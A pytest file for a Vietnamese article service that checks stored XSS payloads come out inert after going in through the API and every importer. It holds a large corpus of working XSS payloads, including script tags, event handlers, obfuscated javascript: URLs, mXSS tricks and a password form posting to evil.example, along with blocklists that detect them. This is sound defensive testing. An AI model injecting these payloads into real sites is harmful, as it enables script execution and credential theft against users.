"""Stored XSS: a payload corpus goes in through the API and every importer; nothing comes out live.

The rendered pages are parsed (html.parser) and must hold no script-capable construct: no
script/style/iframe/object/embed/base/svg/math element anywhere, no form, meta or link
inside <main>, no on* handler and no style attribute anywhere, and no URL attribute that is
javascript:, vbscript: or data: once entities are decoded and whitespace and control
characters are dropped (what a browser does before it reads the scheme). Titles, bylines and
summaries with markup come out as text. No template carries inline script or style, so the
strict CSP (no 'unsafe-inline') holds on every page.
"""

from __future__ import annotations

import html
import json
import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markupsafe import escape
from starlette.testclient import TestClient

from service import Settings, create_app
from service.importers import import_paths
from service.store import open_store

TOKEN = "tok"
ROOT = Path(__file__).resolve().parents[1]
TEMPLATES = ROOT / "service" / "templates"

PAYLOADS: dict[str, str] = {
    "script": "<script>alert('xss')</script>",
    "script-src": "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "script-split": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script-in-attr-breakout": '<a title="x" "><script>alert(1)</script>">x</a>',
    "img-onerror": "<img src=x onerror=alert(1) alt=x>",  # without alt it is refused (422)
    "img-onerror-quoted": '<img src="x" onerror="alert(1)" alt="a">',
    "img-javascript": '<img src="javascript:alert(1)" alt="j">',
    "img-data-svg": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="d">',
    "img-srcset": '<img srcset="javascript:alert(1) 1x" src="/static/demo/books.svg" alt="s">',
    "body-onload": "<body onload=alert(1)>",
    "p-handlers": "<p onclick=alert(1) onmouseover='alert(2)' ONFOCUS=alert(3)>click</p>",
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "marquee-onstart": "<marquee onstart=alert(1)>x</marquee>",
    "a-javascript": '<a href="javascript:alert(1)">j</a>',
    "a-javascript-tab": '<a href="jav&#x09;ascript:alert(1)">tab</a>',
    "a-javascript-newline": '<a href="java\nscript:alert(1)">nl</a>',
    "a-javascript-entities": (
        '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">e</a>'
    ),
    "a-javascript-case-space": '<a href="  JaVaScRiPt:alert(1)">c</a>',
    "a-javascript-control": '<a href="\x01javascript:alert(1)">ctl</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">vb</a>',
    "a-data-html": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">d</a>',
    "a-target-blank": '<a href="https://example.org/" target="_blank" ping="https://evil.example/">t</a>',
    "svg-onload": "<svg onload=alert(1)><circle r=10></circle></svg>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "svg-xlink": '<svg><a xlink:href="javascript:alert(1)"><text y="20">x</text></a></svg>',
    "svg-animate": '<svg><animate attributeName="href" to="javascript:alert(1)"/></svg>',
    "math": (
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>"
        "</table></mtext></math>"
    ),
    "math-href": '<math href="javascript:alert(1)"><mi>x</mi></math>',
    "iframe-srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "iframe-src": '<iframe src="javascript:alert(1)"></iframe>',
    "frameset": "<frameset onload=alert(1)><frame src=x></frameset>",
    "style-element": "<style>body{display:none}</style>",
    "style-import": "<style>@import 'https://evil.example/x.css';</style>",
    "style-cover": (
        '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:2147483647;'
        'background:#fff">covered</div>'
    ),
    "style-url": '<p style="background:url(javascript:alert(1))">bg</p>',
    "base-href": '<base href="https://evil.example/">',
    "form": (
        '<form action="https://evil.example/steal" method="post"><input name="p" type="password">'
        "<button>Go</button></form>"
    ),
    "button-formaction": '<button formaction="javascript:alert(1)">b</button>',
    "object": '<object data="javascript:alert(1)"><param name="x" value="y"></object>',
    "embed": '<embed src="https://evil.example/x.swf">',
    "applet": '<applet code="Evil.class"></applet>',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "link-import": '<link rel="import" href="https://evil.example/x.html">',
    "link-stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
    "template": "<template><script>alert(1)</script></template>",
    "noscript-mxss": (
        '<noscript><p title="</noscript><img src=x onerror=alert(1) alt=x>"></noscript>'
    ),
    "comment-breakout": "<!--><script>alert(1)</script>-->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "textarea-breakout": "<textarea></textarea><script>alert(1)</script>",
    "title-breakout": "</title><script>alert(1)</script>",
    "video-poster": '<video poster="javascript:alert(1)"><source onerror="alert(1)"></video>',
    "table-background": '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "input-autofocus": "<input autofocus onfocus=alert(1)>",
    "isindex": '<isindex action="javascript:alert(1)" type=image>',
    "h1-demotion": "<h1 onclick=alert(1)>second h1</h1>",
}

# Elements that must not appear anywhere in a page (the templates use none of them).
NEVER = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "applet", "param",
    "base", "svg", "math", "template", "noscript", "portal", "marquee", "video", "audio",
    "source", "isindex", "textarea", "select",
}  # fmt: skip
# Elements the page chrome uses outside <main> (the display options are a <details>)
# but an article must never bring into it.
NOT_IN_MAIN = {
    "form", "input", "button", "meta", "link", "title", "head", "body", "html", "details",
    "summary",
}  # fmt: skip
URL_ATTRIBUTES = {
    "href", "src", "action", "formaction", "srcset", "poster", "background", "data",
    "xlink:href", "ping", "cite", "longdesc", "lowsrc", "dynsrc", "manifest", "codebase",
    "icon", "profile", "usemap", "to", "from", "values",
}  # fmt: skip
BAD_SCHEMES = ("javascript:", "vbscript:", "data:", "livescript:", "mocha:")
_INVISIBLE = re.compile(r"[\x00-\x20\x7f-\x9f\u200b-\u200f\u2028\u2029\ufeff]")


@dataclass
class Element:
    tag: str
    attrs: list[tuple[str, str | None]]
    in_main: bool
    in_head: bool


@dataclass
class Page(HTMLParser):
    elements: list[Element] = field(default_factory=list)
    main_text: list[str] = field(default_factory=list)
    texts: dict[str, list[str]] = field(default_factory=dict)

    def __post_init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self._main = 0
        self._head = 0
        self._search = 0
        self._open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag == "form" and ("role", "search") in attrs:
            self._search += 1  # the search page's own form: chrome, though inside <main>
        in_main = self._main > 0 and not self._search
        self.elements.append(Element(tag, attrs, in_main, self._head > 0))
        if tag == "main":
            self._main += 1
        if tag == "head":
            self._head += 1
        self._open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        in_main = self._main > 0 and not self._search
        self.elements.append(Element(tag, attrs, in_main, self._head > 0))

    def handle_endtag(self, tag: str) -> None:
        if tag == "form" and self._search:
            self._search -= 1
        if tag == "main":
            self._main = max(0, self._main - 1)
        if tag == "head":
            self._head = max(0, self._head - 1)
        if tag in self._open:
            while self._open and self._open.pop() != tag:
                pass

    def handle_data(self, data: str) -> None:
        if self._main:
            self.main_text.append(data)
        for tag in set(self._open):
            self.texts.setdefault(tag, []).append(data)

    def text_of(self, tag: str) -> str:
        return " ".join("".join(self.texts.get(tag, [])).split())


def parse(text: str) -> Page:
    page = Page()
    page.feed(text)
    page.close()
    return page


def _scheme_of(value: str) -> str:
    return _INVISIBLE.sub("", html.unescape(value)).lower()


def assert_inert(text: str) -> Page:
    """Fail on anything in the page that could run script or restyle the page."""
    lowered = text.lower()
    for opener in ("<script", "<style", "<iframe", "<svg", "<math", "<object", "<embed", "<base"):
        assert opener not in lowered, f"raw {opener} in the page"
    page = parse(text)
    assert any(e.tag == "main" for e in page.elements), "no <main>"
    for el in page.elements:
        assert el.tag not in NEVER, f"<{el.tag}> in the page"
        if el.in_main:
            assert el.tag not in NOT_IN_MAIN, f"<{el.tag}> inside <main>"
        if el.tag in ("meta", "link", "title"):
            assert el.in_head, f"<{el.tag}> outside <head>"
        for name, value in el.attrs:
            assert not name.startswith("on"), f"<{el.tag} {name}=…> handler"
            assert name != "style", f"<{el.tag} style=…>"
            assert name not in ("http-equiv", "srcdoc", "formaction", "target", "ping"), name
            if name in URL_ATTRIBUTES and value:
                candidates = value.split(",") if name == "srcset" else [value]
                for candidate in candidates:
                    scheme = _scheme_of(candidate)
                    assert not scheme.startswith(BAD_SCHEMES), f"<{el.tag} {name}={value!r}>"
    return page


# -- the app and the articles ---------------------------------------------------------------------
TITLE = '<img src=x onerror=alert(1)><b>Tiêu đề</b> & "nháy" </title><script>alert(1)</script>'
BYLINE = "<script>alert(1)</script>HQ - <i>TL</i>"
SUMMARY = "<svg onload=alert(1)>Tóm tắt <b>ngắn</b>"


def _slug(name: str) -> str:
    return "xss-" + name


def _body(name: str, payload: str) -> str:
    return f"<p>Mở đầu xssmarker {name}.</p>\n{payload}\n<p>Kết thúc bài.</p>"


@pytest.fixture(scope="module")
def client(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    db = tmp_path_factory.mktemp("xss") / "t.db"
    app = create_app(Settings(db=str(db), admin_token=TOKEN, max_body_mb=2, demo=False))
    with TestClient(app, raise_server_exceptions=True, follow_redirects=False) as c:
        auth = {"Authorization": f"Bearer {TOKEN}"}
        for name, payload in PAYLOADS.items():
            data = {
                "title": f"Bài {name}",
                "published": "2023-09-21",
                "body_html": _body(name, payload),
                "summary": SUMMARY,
                "byline": BYLINE,
            }
            r = c.put(f"/api/articles/{_slug(name)}", json=data, headers=auth)
            assert r.status_code == 201, (name, r.status_code, r.text)
        data = {
            "title": TITLE,
            "published": "2023-09-21",
            "body_html": "<p>x</p>",
            "byline": BYLINE,
        }
        r = c.put("/api/articles/xss-title", json=data, headers=auth)
        assert r.status_code == 201, r.text
        yield c


def _pages(client: TestClient, path: str) -> Iterator[str]:
    """The page as a miss, as a cache hit, and in a second variant."""
    for url in (path, path, f"{path}?theme=high-contrast&size=200&spacing=1"):
        r = client.get(url)
        assert r.status_code == 200, (url, r.status_code)
        yield r.text


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_api_payload_is_inert(client: TestClient, name: str) -> None:
    for text in _pages(client, f"/articles/{_slug(name)}"):
        page = assert_inert(text)
        shown = " ".join("".join(page.main_text).split())
        assert f"Mở đầu xssmarker {name}." in shown and "Kết thúc bài." in shown  # still readable


def test_title_byline_and_summary_markup_is_shown_as_text(client: TestClient) -> None:
    for text in _pages(client, "/articles/xss-title"):
        page = assert_inert(text)
        assert page.text_of("h1") == " ".join(TITLE.split())
        assert " ".join(TITLE.split()) in page.text_of("title")
        assert str(escape(TITLE)) in text
        assert "&lt;script&gt;alert(1)&lt;/script&gt;HQ - &lt;i&gt;TL&lt;/i&gt;" in text
    article = client.get("/articles/xss-script").text
    assert_inert(article)
    assert "Tóm tắt &lt;b&gt;ngắn&lt;/b&gt;" in article or SUMMARY not in article


def test_lists_and_search_results_are_inert(client: TestClient) -> None:
    for url in ("/", "/?page=2", "/?page=3", "/search?q=xssmarker", "/search?q=xssmarker&page=2"):
        r = client.get(url)
        assert r.status_code in (200, 404), url
        assert_inert(r.text)
    hits = client.get("/search?q=alert").text
    assert_inert(hits)


def test_the_checker_catches_what_it_should() -> None:
    """The checker itself: each of these must fail it."""
    wrapper = "<html><head></head><body><main>{}</main></body></html>"
    for bad in [
        "<script>x</script>",
        "<p onclick=x>a</p>",
        '<a href=" jav&#x09;ascript:x">a</a>',
        '<img src="DATA:image/png;base64,AA">',
        '<p style="color:red">a</p>',
        "<form></form>",
        '<meta http-equiv="refresh">',
        "<iframe></iframe>",
        '<img srcset="/a.png 1x, javascript:x 2x">',
    ]:
        with pytest.raises(AssertionError):
            assert_inert(wrapper.format(bad))
    assert_inert(wrapper.format('<p><a href="/articles/x">ok</a> <img src="/a.svg" alt=""></p>'))


# -- every importer ------------------------------------------------------------------------------
ALL = "\n".join(PAYLOADS.values())
MARKDOWN = f"""---
title: '{TITLE.replace("'", "''")}'
published: 2023-09-21
byline: '{BYLINE}'
summary: '{SUMMARY}'
slug: xss-markdown
---
Mở đầu xssmarker markdown.

{ALL}

[liên kết](javascript:alert(1)) [tab](jav&#x09;ascript:alert(1)) [vb](vbscript:msgbox(1))
[data](data:text/html;base64,PHNjcmlwdD4=) <javascript:alert(1)>
![ảnh](data:image/png;base64,iVBORw0KGgo=)
![svg](data:image/svg+xml;base64,PHN2Zz4=) [ref][r] <a href="javascript:alert(1)">raw</a>

[r]: javascript:alert(1) "title"

Kết thúc bài.
"""
PORTAL = f"""CỔNG THÔNG TIN ĐIỆN TỬ
{TITLE.replace("<b>", "<b class=x>")}
21/09/2023
Cỡ chữ: Tương phản
Mở đầu xssmarker portal, có <script>alert(1)</script> và <img src=x onerror=alert(1)> ở giữa.
<a href="javascript:alert(1)">bấm đây</a> để xem <style>body{{display:none}}</style> thông tin.
<svg onload=alert(1)>
<iframe srcdoc="<script>alert(1)</script>">
Kết thúc bài với <base href="https://evil.example/"> và <form action="https://evil.example/">.
<b>HQ</b> - TL
Tìm kiếm
"""


@pytest.fixture(scope="module")
def imported(tmp_path_factory: pytest.TempPathFactory) -> Iterator[TestClient]:
    folder = tmp_path_factory.mktemp("xss-import")
    items = [
        {
            "slug": "xss-json-" + name,
            "title": TITLE,
            "published": "2023-09-21",
            "body_html": _body(name, payload),
            "byline": BYLINE,
            "summary": SUMMARY,
        }
        for name, payload in PAYLOADS.items()
    ]
    (folder / "list.json").write_text(json.dumps(items, ensure_ascii=False), encoding="utf-8")
    one = {**items[0], "slug": "xss-json-all", "body_html": _body("all", ALL)}
    (folder / "one.json").write_text(json.dumps(one, ensure_ascii=False), encoding="utf-8")
    (folder / "article.md").write_text(MARKDOWN, encoding="utf-8")
    (folder / "portal.txt").write_text(PORTAL, encoding="utf-8")
    db = folder / "t.db"
    store = open_store(db)
    try:
        report = import_paths(store, [folder])
    finally:
        store.close()
    assert report.ok, report.summary()
    assert len(report.created) == len(PAYLOADS) + 3, report.summary()
    app = create_app(Settings(db=str(db), admin_token=TOKEN, demo=False))
    with TestClient(app, raise_server_exceptions=True, follow_redirects=False) as c:
        c.portal_text_slug = next(s for s in report.created if not s.startswith("xss-"))  # type: ignore[attr-defined]
        yield c


@pytest.mark.parametrize("name", list(PAYLOADS))
def test_json_import_payload_is_inert(imported: TestClient, name: str) -> None:
    for text in _pages(imported, f"/articles/xss-json-{name}"):
        page = assert_inert(text)
        assert page.text_of("h1") == " ".join(TITLE.split())
        assert "Kết thúc bài." in "".join(page.main_text)


def test_json_import_all_payloads_in_one_body_is_inert(imported: TestClient) -> None:
    for text in _pages(imported, "/articles/xss-json-all"):
        assert_inert(text)


def test_markdown_import_is_inert(imported: TestClient) -> None:
    for text in _pages(imported, "/articles/xss-markdown"):
        page = assert_inert(text)
        assert page.text_of("h1") == " ".join(TITLE.split())
        shown = "".join(page.main_text)
        assert "Mở đầu xssmarker markdown." in shown and "Kết thúc bài." in shown
        assert "<script>alert(1)</script>HQ - <i>TL</i>" in " ".join(shown.split())


def test_portal_text_import_is_inert(imported: TestClient) -> None:
    slug = imported.portal_text_slug  # type: ignore[attr-defined]
    for text in _pages(imported, f"/articles/{slug}"):
        page = assert_inert(text)
        shown = " ".join("".join(page.main_text).split())
        assert "<script>alert(1)</script>" in shown  # shown as text, not run
        assert "<b>HQ</b> - TL" in shown
        assert "<b class=x>Tiêu đề</b>" in page.text_of("h1")


def test_imported_lists_and_search_are_inert(imported: TestClient) -> None:
    for url in ("/", "/?page=2", "/?page=6", "/search?q=xssmarker", "/search?q=alert"):
        r = imported.get(url)
        assert r.status_code in (200, 404), url
        assert_inert(r.text)


# -- the templates ------------------------------------------------------------------------------
INLINE = [
    (re.compile(r"<script", re.I), "<script"),
    (re.compile(r"<style", re.I), "<style"),
    (re.compile(r"\sstyle\s*=", re.I), "style="),
    (re.compile(r"\son[a-z]+\s*=", re.I), "on*= handler"),
    (re.compile(r"javascript:", re.I), "javascript: URL"),
]


@pytest.mark.parametrize("template", sorted(p.name for p in TEMPLATES.glob("*.html")))
def test_template_has_no_inline_script_or_style(template: str) -> None:
    source = (TEMPLATES / template).read_text(encoding="utf-8")
    for pattern, what in INLINE:
        match = pattern.search(source)
        assert match is None, f"{template} has {what} at offset {match.start() if match else 0}"


def test_templates_exist() -> None:
    assert len(list(TEMPLATES.glob("*.html"))) >= 5


def test_every_served_html_page_has_no_inline_script_or_style(client: TestClient) -> None:
    """The rendered chrome too, and the widget demo page served from our origin."""
    widget_pages = [
        url
        for url, (entry, _) in client.app.state.site.widget.items()  # type: ignore[attr-defined]
        if entry.media_type.startswith("text/html")
    ]
    for url in ["/", "/articles/xss-script", "/search?q=xssmarker", "/preferences", "/nope",
                "/?theme=nope", *widget_pages]:  # fmt: skip
        r = client.get(url)
        assert r.headers["content-type"].startswith("text/html"), url
        page = parse(r.text)
        for el in page.elements:
            attrs = dict(el.attrs)
            if el.tag == "script":
                assert attrs.get("src"), f"{url}: inline <script>"
            assert el.tag != "style", f"{url}: <style>"
            assert "style" not in attrs, f"{url}: style attribute on <{el.tag}>"
            assert not any(n.startswith("on") for n in attrs), f"{url}: handler on <{el.tag}>"
        scripts = re.findall(r"<script\b[^>]*>(.*?)</script>", r.text, flags=re.S | re.I)
        assert all(not body.strip() for body in scripts), f"{url}: a script with inline code"
